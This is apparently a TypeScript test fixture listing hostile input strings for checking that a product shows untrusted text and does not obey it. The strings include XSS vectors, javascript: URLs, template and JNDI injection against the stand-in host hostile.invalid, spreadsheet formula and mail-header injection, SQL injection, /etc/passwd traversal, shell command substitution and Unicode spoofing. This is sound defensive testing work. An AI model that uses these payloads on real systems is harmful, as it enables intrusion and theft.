/*
 * What strangers may write where we show, store or send it: each text stands for one way in which a page, a file or a
 * message could obey instead of show. Made for this product; the same texts go through every door.
 */

/** What a payload calls: a page in which it ran would have told the test so. */
export const canaryName = 'latchwatchCanary';

/** A host of nobody: a page that asks it for anything was made to. */
export const foreignHost = 'hostile.invalid';

const call = `${canaryName}()`;
const foreign = `https://${foreignHost}`;

/** Ways to make markup run. */
const markup = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `"><img src=x onerror=${call}>`,
  `'><svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<style>@import "${foreign}/a.css";</style>`,
  `<link rel=stylesheet href=${foreign}/b.css>`,
  `<img src=${foreign}/c.png>`,
  `<meta http-equiv=refresh content="0;url=${foreign}/">`,
  `<base href=${foreign}/>`,
  `<form action=${foreign}/><input type=submit>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<math><mi xlink:href="javascript:${call}">x`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
] as const;

/** Addresses that are programs, or somebody else's. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}//https://example.org/`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `//${foreignHost}/`,
  `https://example.org@${foreignHost}/`,
  `${foreign}/?q="onmouseover=${call} x="`,
] as const;

/** What template engines, React and string formatting would take for theirs. */
const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${call}"}}`,
  `]]></cdata><script>${call}</script>`,
  `__proto__`,
  `constructor`,
  `%s%n%d`,
  '${jndi:ldap://' + foreignHost + '/a}',
] as const;

/** Characters that turn text around, hide in it, or speak to a terminal. */
const unseen = [
  'invoice\u202egnp.exe',
  '\u2067right\u2069 to left \u200f\u200e',
  'zero\u200bwidth\u2060and\ufeffmark',
  'tag\u{e0041}\u{e0042}',
  'bell\u0007back\b\u007f',
  '\u001b[31mred\u001b]8;;' + foreign + '\u0007link\u001b]8;;\u0007',
  'next\u0085line\u2028separator\u2029paragraph',
  `e${'\u0301'.repeat(40)}`,
] as const;

/** Programs for whoever opens the file, reads the mail or runs the query. */
const formulas = [
  `=HYPERLINK("${foreign}/","look")`,
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
] as const;
const headers = [
  `x\r\nBcc: everybody@${foreignHost}`,
  `x\nBEGIN:VALARM\nACTION:DISPLAY`,
  `x\r\n\r\n<script>${call}</script>`,
] as const;
const others = [
  `'; DROP TABLE incident; --`,
  `1 OR 1=1`,
  `../../../../etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `%00%ff%0d%0a`,
  'mаil.exаmple.org',
  'xn--mail-7cd.example.org',
  `[click](javascript:${call}) ![x](${foreign}/d.png) | \`code\` | <!-- -->`,
  `$(touch /tmp/latchwatch-hostile) \`id\``,
  'A'.repeat(4000),
  `${'W'.repeat(300)}.example.org`,
] as const;

/** Text that databases and encoders choke on; it may be refused, but in words. */
const unstorableTexts = ['nul\u0000byte', 'lone\ud800surrogate', '\udc00'] as const;

/** Every text; whoever takes only what a wire can carry filters. */
export const hostileTexts: readonly string[] = [
  ...[...markup, ...addresses, ...templates, ...unseen],
  ...[...formulas, ...headers, ...others, ...unstorableTexts],
];

/** Those that come in one line of a mail protocol: bytes, which are kept as latin1, without line ends and NUL. */
export const hostileLines: readonly string[] = hostileTexts
  .filter((text) => !/[\r\n\0]/.test(text))
  .map((text) => Buffer.from(text, 'utf8').toString('latin1'));

/** Those that a certificate can carry in a UTF8String. */
export const hostileNames: readonly string[] = hostileTexts.filter(
  (text) => text.length <= 300 && !/\p{Cs}/u.test(text),
);

/** The text that stands at this place, round and round. */
export function textAt(texts: readonly string[], index: number): string {
  return texts[index % texts.length] ?? '';
}

/** Characters that a page must write out and never obey: direction, format, control. Line ends and tabs are layout. */
export const obeyedCharacters = /[\p{Cf}\p{Co}\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029]/u;
